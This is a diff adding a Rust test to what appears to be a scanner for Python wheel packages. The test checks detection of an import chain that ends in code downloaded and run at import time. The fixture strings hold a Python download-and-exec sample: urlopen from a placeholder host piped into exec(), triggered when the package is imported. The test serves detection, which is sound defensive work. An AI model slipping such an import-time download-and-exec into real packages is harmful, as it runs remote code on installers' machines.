@@ -272,6 +272,29 @@ fn test_package_imported_by_name_is_parsed_past_the_budget() {
 }
 
 #[test]
+fn module_that_cannot_act_but_calls_one_that_does_is_parsed() {
+    // `engine` names nothing that acts, so it is not parsed at first; but its top level calls
+    // `driver.start`, which downloads and runs code, and `__init__` imports `engine`: importing
+    // the package runs the download. The call is only seen once `engine` is parsed after all.
+    let init = "\"\"\"Text to speech.\"\"\"\nfrom . import engine\n";
+    let engine = "from . import driver\n\nclass Engine:\n    pass\n\ndriver.start()\n";
+    let driver =
+        "import urllib.request\ndef start():\n    code = urllib.request.urlopen('https://example.invalid/x').read()\n    exec(code)\n";
+    // `lazy` does not call it: it stays unparsed, and nothing is reported through it.
+    let lazy = "from . import driver\nNAME = 'lazy'\n";
+    let threaded = Scanner::new(ScanConfig { member_threads: 2, ..ScanConfig::default() }).unwrap();
+    for s in [scanner(), &threaded] {
+        let data = wheel(&[("demo/__init__.py", init), ("demo/engine.py", engine), ("demo/driver.py", driver)]);
+        let r = s.scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+        let f = r.findings.iter().find(|f| f.rule == "py-import-download-exec").unwrap_or_else(|| panic!("{:#?}", r.findings));
+        assert!(f.message.contains("demo/driver.py"), "{f:#?}");
+        let data = wheel(&[("demo/__init__.py", "from . import lazy\n"), ("demo/lazy.py", lazy), ("demo/driver.py", driver)]);
+        let r = s.scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+        assert!(!rules_of(&r).contains(&"py-import-download-exec"), "{:#?}", r.findings);
+    }
+}
+
+#[test]
 fn files_held_without_a_sink_are_parsed_once_the_package_has_one() {
     // `__init__` and the host-details helper name nothing that acts, so they are held back
     // unparsed; the network module makes the package one that can act, and the held files are
